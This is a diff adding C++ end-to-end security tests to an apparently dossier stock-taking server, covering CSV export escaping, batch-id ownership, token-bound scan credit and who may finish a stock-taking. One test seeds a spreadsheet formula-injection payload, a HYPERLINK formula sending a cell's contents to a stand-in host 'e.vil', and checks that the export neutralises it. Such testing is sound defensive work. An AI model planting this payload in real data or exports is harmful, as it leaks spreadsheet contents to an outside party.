@@ -58,6 +58,40 @@ json scan(int tag, const std::string& where) {
     return {{"epc", epc(tag)}, {"location", where}, {"at", common::format_utc(std::chrono::system_clock::now())}};
 }
 
+// The lines of a CSV body as a spreadsheet reads them (RFC 4180: quoted fields, doubled quotes, CRLF).
+std::vector<std::vector<std::string>> read_csv(const std::string& body) {
+    std::vector<std::vector<std::string>> lines(1);
+    std::string field;
+    bool quoted = false;
+    for (std::size_t i = 0; i < body.size(); ++i) {
+        const char c = body[i];
+        if (quoted) {
+            if (c == '"' && i + 1 < body.size() && body[i + 1] == '"') {
+                field += '"';
+                ++i;
+            } else if (c == '"') {
+                quoted = false;
+            } else {
+                field += c;
+            }
+        } else if (c == '"') {
+            quoted = true;
+        } else if (c == ',') {
+            lines.back().push_back(std::move(field));
+            field.clear();
+        } else if (c == '\r' && i + 1 < body.size() && body[i + 1] == '\n') {
+            lines.back().push_back(std::move(field));
+            field.clear();
+            lines.emplace_back();
+            ++i;
+        } else {
+            field += c;
+        }
+    }
+    if (lines.back().empty()) lines.pop_back();
+    return lines;
+}
+
 const json* item_of(const json& result, const std::string& key, const std::string& value) {
     for (const auto& i : result["items"]) {
         if (i[key].is_string() && i[key] == value) return &i;
@@ -182,4 +216,98 @@ TEST_CASE("a stock-taking classes every item: present, missing, misplaced, unkno
     CHECK(std::count(csv.body.begin(), csv.body.end(), '\n') == 23);  // header + 22 items
     CHECK(s.get("/api/v1/stocktakes/999999").status == 404);
     CHECK(s.get("/api/v1/stocktakes/" + id + "?format=xml").status == 400);
+}
+
+TEST_CASE("a case number that begins as a formula leaves the stock-taking CSV as text", "[stocktake][e2e][security]") {
+    ServerProcess s;
+    // A dossier registered before case numbers had an alphabet (the API and the import refuse this one
+    // now), whose case number a spreadsheet would run: a link that sends the sheet's first cell away.
+    const std::string formula = "=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")";
+    s.db.exec(
+        "INSERT INTO dossiers (case_number, title, owning_unit_id, home_location_id) "
+        "SELECT '" +
+        formula +
+        "', 'legacy', u.id, l.id FROM units u, locations l "
+        "WHERE u.code = 'CID-T1' AND l.code = 'HQ-R1-C1-S1';"
+        "INSERT INTO volumes (dossier_id, volume_no) SELECT id, 1 FROM dossiers WHERE title = 'legacy'");
+    auto r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1-S1"}, {"by", "liu.yang"}});
+    REQUIRE(r.status == 201);
+    const auto id = std::to_string(r.body["id"].get<long long>());
+    // In JSON it is what it is.
+    CHECK(item_of(s.get("/api/v1/stocktakes/" + id).body, "case_number", formula) != nullptr);
+    // Exported and read back as a spreadsheet reads it: text, with the quote that keeps it so.
+    const auto csv = http_get(s.port, "/api/v1/stocktakes/" + id + "?format=csv");
+    REQUIRE(csv.status == 200);
+    const auto lines = read_csv(csv.body);
+    REQUIRE(lines.size() == 7);  // the header, dossiers 1..5 and the legacy one
+    int found = 0;
+    for (std::size_t i = 1; i < lines.size(); ++i) {
+        INFO(csv.body);
+        REQUIRE(lines[i].size() == lines[0].size());
+        for (const auto& cell : lines[i]) {
+            // No cell of the export begins as a formula.
+            CHECK((cell.empty() || std::string("=+-@\t\r").find(cell.front()) == std::string::npos));
+        }
+        if (lines[i][1] == "'" + formula) ++found;
+    }
+    CHECK(found == 1);
+}
+
+TEST_CASE("a batch id is its uploader's, scans are the token holder's, and only the starter or a supervisor finishes",
+          "[stocktake][e2e][security]") {
+    ServerProcess s;
+    REQUIRE(s.post("/api/v1/staff", {{"login", "li.na"}, {"name", "Li Na"}, {"unit", "CID-S1"}, {"roles", {"clerk"}}})
+                .status == 201);
+    s.token_for("li.na");
+    auto r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1"}, {"by", "liu.yang"}});
+    REQUIRE(r.status == 201);
+    const auto id = std::to_string(r.body["id"].get<long long>());
+    const auto scans = "/api/v1/stocktakes/" + id + "/scans";
+    r = s.post(scans, {{"batch_id", "HH-1"}, {"by", "wang.li"}, {"scans", {scan(1, "HQ-R1-C1-S1")}}});
+    REQUIRE(r.status == 200);
+    CHECK(r.body["already_uploaded"] == false);
+
+    // The attack: chen.jing's handheld sends a batch under wang.li's batch id. Answered "already uploaded"
+    // before, which dropped chen.jing's scans without a word (the items would count as missing).
+    r = s.post(
+        scans,
+        {{"batch_id", "HH-1"}, {"by", "chen.jing"}, {"scans", {scan(2, "HQ-R1-C1-S1"), scan(3, "HQ-R1-C1-S1")}}});
+    CHECK(r.status == 409);
+    CHECK(r.body["error"]["message"] == "batch_id: \"HH-1\" was uploaded to stock-taking " + id +
+                                            " by someone else; give this batch an id of its own");
+    // wang.li's own retry is still harmless.
+    r = s.post(scans, {{"batch_id", "HH-1"}, {"by", "wang.li"}, {"scans", {scan(1, "HQ-R1-C1-S1")}}});
+    CHECK(r.status == 200);
+    CHECK(r.body["already_uploaded"] == true);
+    CHECK(r.body["scans"] == 1);
+
+    // Scans are credited to the token's holder: a body naming someone else is refused.
+    const auto chen = s.token_for("chen.jing");
+    const json as_wang = {{"batch_id", "HH-2"}, {"by", "wang.li"}, {"scans", {scan(2, "HQ-R1-C1-S1")}}};
+    const auto forged = http_send(s.port, "POST", scans, as_wang.dump(), {"Authorization: Bearer " + chen});
+    CHECK(forged.status == 403);
+    CHECK(s.post(scans, {{"batch_id", "HH-2"}, {"by", "chen.jing"}, {"scans", {scan(2, "HQ-R1-C1-S1")}}}).status ==
+          200);
+    CHECK(s.db.query_value("SELECT string_agg(s.login || ':' || b.batch_id || ':' || b.scans, ',' ORDER BY b.batch_id) "
+                           "FROM stocktake_batches b JOIN staff s ON s.id = b.staff_id") ==
+          "wang.li:HH-1:1,chen.jing:HH-2:1");
+
+    // Finishing: another clerk may not (a case handler's role may not finish at all).
+    const auto finish = "/api/v1/stocktakes/" + id + "/finish";
+    r = s.post(finish, {{"by", "li.na"}});
+    CHECK(r.status == 403);
+    CHECK(r.body["error"]["message"] ==
+          "only liu.yang, who started stock-taking " + id + ", or a supervisor can finish it");
+    CHECK(s.post(finish, {{"by", "wang.li"}}).status == 403);
+    CHECK(s.get("/api/v1/stocktakes/" + id).body["stocktake"]["state"] == "open");
+    // A supervisor may.
+    r = s.post(finish, {{"by", "zhao.min"}});
+    CHECK(r.status == 200);
+    CHECK(r.body["stocktake"]["finished_by"] == "zhao.min");
+    // And the starter finishes their own.
+    r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C2"}, {"by", "li.na"}});
+    REQUIRE(r.status == 201);
+    r = s.post("/api/v1/stocktakes/" + std::to_string(r.body["id"].get<long long>()) + "/finish", {{"by", "li.na"}});
+    CHECK(r.status == 200);
+    CHECK(r.body["stocktake"]["finished_by"] == "li.na");
 }
